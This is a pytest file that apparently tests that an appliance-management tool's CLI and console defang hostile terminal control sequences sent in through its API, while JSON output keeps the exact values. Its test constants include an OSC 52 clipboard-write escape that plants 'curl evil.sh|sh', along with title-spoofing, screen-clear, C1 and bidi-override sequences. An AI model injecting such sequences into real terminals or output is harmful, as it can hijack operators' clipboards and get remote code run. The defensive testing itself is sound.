"""Text that came from an appliance or a host never drives the operator's terminal: a real server
is seeded, through its API as a hostile appliance would, with OSC 52 clipboard writes, window
title changes, screen clears, CSI, C1 controls, a bare ESC, BEL and a bidi override in every
free-text field it accepts (check-in clock source, evidence action/observed state, incident
summary and details, a partner's site name); the `osiris` CLI (plain, TTY and --json) and the
console show them defanged (visible ``\\x1b`` escapes) — and --json still carries the exact
values."""

from __future__ import annotations

import json
import os
import pty
import re
import select
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from osiris_tui.app import OsirisApp
from osiris_tui.screens.appliance import ApplianceScreen
from osiris_tui.widgets.modals import JsonModal
from osiris_tui.widgets.table import KeyedTable
from tests.server.conftest import checkin_body
from tests.tui.waiting import settle, until

OSIRIS = str(Path(sys.executable).parent / "osiris")

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"  # clipboard := "curl evil.sh|sh"
TITLE = "\x1b]0;root@prod\x1b\\"
CLEAR = "\x1b[2J\x1b[H"
C1 = "\x9b31m\x9d2;t\x9c\x90q\x9c"  # one-byte CSI, OSC, ST, DCS
EVIL = f"ok{OSC52}{TITLE}{CLEAR}{C1}\x1bc\x07\u202eexe.txt\x08\x08\r"
# what must never reach a terminal: every C0 control but newline and tab, DEL, C1, bidi
FORBIDDEN = (
    {chr(c) for c in range(0x20) if c not in (0x09, 0x0A)}
    | {chr(c) for c in range(0x7F, 0xA0)}
    | {"\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u202a", "\u202b", "\u202d"}
)


def forbidden_in(text: str) -> set[str]:
    return {c for c in text if c in FORBIDDEN}


@pytest.fixture
def seeded(server) -> dict[str, Any]:
    p = server.admin.post("/api/v1/partners", json={"name": "Reseller"}).json()
    site = server.client(api_key=p["api_key"]).post(
        "/api/v1/sites", json={"name": f"Clinic {EVIL}"}
    )
    assert site.status_code == 201, site.text
    site = site.json()
    a = server.enroll(site["id"], hostname="evil-app")
    # dc01 is a host the site has a credential for: the drift views show only those (issue 13)
    cred = server.admin.post(
        f"/api/v1/sites/{site['id']}/credentials",
        json={"host_id": "dc01", "kind": "winrm", "address": "10.0.0.5", "username": "svc",
              "password": "pw"},
    )  # fmt: skip
    assert cred.status_code == 201, cred.text
    c = server.client(a.token)
    body = checkin_body(a)
    body["status"]["clock"]["source"] = EVIL[:128]
    body["status"]["checks"] = [
        {
            "host_id": "dc01",
            "check": "firewall",
            "status": "drift",
            "since": "2026-01-01T00:00:00.000Z",
        }
    ]
    r = c.post("/api/v1/checkin", json=body)
    assert r.status_code == 200, r.text
    envs = [
        a.envelope(
            host_id="dc01",
            check="firewall",
            outcome="alert",
            action_taken=EVIL,
            post_state={"observed": {"rule": EVIL}, "expected": {"rule": "on"}},
        )
    ]
    r = c.post("/api/v1/evidence", json={"envelopes": envs})
    assert r.status_code == 200 and r.json()["results"][0]["status"] == "accepted", r.text
    r = c.post(
        "/api/v1/incidents",
        json={
            "incidents": [
                {
                    "kind": "disk_full",
                    "severity": "warning",
                    "host_id": "dc01",
                    "summary": EVIL,
                    "details": {"note": EVIL},
                }
            ]
        },
    )
    assert r.status_code in (200, 201), r.text
    incs = server.admin.get("/api/v1/incidents", params={"site": site["id"]}).json()["incidents"]
    inc = next(i for i in incs if i["kind"] == "disk_full")
    assert inc["summary"] == EVIL  # the server stores what it got; defanging is the printer's
    return {"site": site, "appliance": a, "incident": inc}


def _env(server) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("OSIRIS_")}
    env.update(
        OSIRIS_SERVER=server.url,
        OSIRIS_TOKEN=server.admin_token,
        OSIRIS_PROFILE_FILE="/nonexistent",
    )
    return env


def _run(server, *args: str) -> subprocess.CompletedProcess:
    r = subprocess.run(
        [OSIRIS, *args], capture_output=True, text=True, env=_env(server), timeout=60
    )
    assert r.returncode == 0, (args, r.stderr)
    return r


def _run_tty(server, *args: str) -> str:
    """The command with stdout on a pseudo-terminal (rich tables, as an operator sees them)."""
    master, slave = pty.openpty()
    env = {**_env(server), "COLUMNS": "400", "TERM": "xterm-256color"}
    p = subprocess.Popen([OSIRIS, *args], stdout=slave, stderr=subprocess.PIPE, env=env)
    os.close(slave)
    out = b""
    while True:
        ready, _, _ = select.select([master], [], [], 30)
        if not ready:
            break
        try:
            chunk = os.read(master, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not chunk:
            break
        out += chunk
    os.close(master)
    assert p.wait(30) == 0, p.stderr.read() if p.stderr else b""
    return out.decode("utf-8", "replace")


def test_cli_output_carries_no_control_sequence(server, seeded) -> None:
    a, inc, site = seeded["appliance"], seeded["incident"], seeded["site"]
    plain = [
        ("site", "list"),
        ("site", "show", site["id"]),
        ("appliance", "list"),
        ("appliance", "show", a.id),
        ("appliance", "drift", a.id),
        ("incident", "list"),
        ("incident", "show", inc["id"]),
    ]
    for args in plain:
        r = _run(server, *args)
        assert not forbidden_in(r.stdout + r.stderr), (args, forbidden_in(r.stdout))
    # the hostile text is visible as text, so an operator can see something was there
    assert "\\x1b]52;c;" in _run(server, "incident", "list").stdout
    assert "\\x9b31m" in _run(server, "incident", "show", inc["id"]).stdout
    assert "\\x1b]0;root@prod" in _run(server, "site", "list").stdout
    # --json: valid JSON, no raw control character, and exactly the stored values
    for args in plain:
        r = _run(server, *args, "--json")
        assert not forbidden_in(r.stdout), (args, forbidden_in(r.stdout))
        json.loads(r.stdout)
    shown = json.loads(_run(server, "incident", "show", inc["id"], "--json").stdout)
    assert shown["summary"] == EVIL
    listed = json.loads(_run(server, "site", "show", site["id"], "--json").stdout)
    assert listed["name"] == f"Clinic {EVIL}"


def test_cli_tables_on_a_terminal_carry_no_control_sequence(server, seeded) -> None:
    for args in (
        ("incident", "list"),
        ("site", "list"),
        ("appliance", "drift", seeded["appliance"].id),
    ):
        out = _run_tty(server, *args)
        # rich styles its own table with SGR (ESC [ … m); nothing else may come through
        rest = re.sub(r"\x1b\[[0-9;]*m", "", out)
        assert not forbidden_in(rest.replace("\r\n", "\n")), (args, forbidden_in(rest))
        assert "\\x1b" in rest or "\\u001b" in rest  # defanged, still visible


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


def _all_cells(screen) -> list[str]:
    out = []
    for t in screen.query(KeyedTable):
        for row in t.ordered_rows:
            out += [c.plain if hasattr(c, "plain") else str(c) for c in t.get_row(row.key)]
    return out


@pytest.mark.anyio
async def test_console_renders_no_control_sequence(server, seeded) -> None:
    app = OsirisApp(server.url, server.admin_token)
    async with app.run_test(size=(160, 50)) as pilot:
        await settle(app, pilot)
        fleet = app.screen.query_one("#appliances", KeyedTable)
        hosts = [fleet.get_cell(r.key, "host").plain for r in fleet.ordered_rows]
        fleet.move_cursor(row=hosts.index("evil-app"))
        await pilot.press("enter")
        await settle(app, pilot)
        scr = app.screen
        assert isinstance(scr, ApplianceScreen)
        seen: list[str] = [scr.query_one("#title").render().plain]  # type: ignore[union-attr]
        for tab in ("1", "4", "5"):
            await pilot.press(tab)
            await settle(app, pilot, 1)
        await until(
            app,
            pilot,
            lambda: any("\\x1b]52" in c for c in _all_cells(scr)),
            "the incident and the drift observation to load",
        )
        seen += _all_cells(scr)
        assert not set().union(*(forbidden_in(c) for c in seen)), [
            c for c in seen if forbidden_in(c)
        ]
        assert any(c.startswith("ok\\x1b]52;c;") for c in seen)  # the incident summary, defanged
        shot = app.export_screenshot()
        assert not forbidden_in(shot), forbidden_in(shot)
        # the drift row's JSON view (enter) shows the bundle's observed state literally too
        await pilot.press("1")
        await settle(app, pilot, 1)
        scr.query_one("#drift-table", KeyedTable).focus()
        await pilot.press("enter")
        await settle(app, pilot)
        assert isinstance(app.screen, JsonModal)
        body = app.screen.query_one("#json-body").render().plain  # type: ignore[union-attr]
        assert "\\u001b]52" in body and not forbidden_in(body)
        assert not forbidden_in(app.export_screenshot())
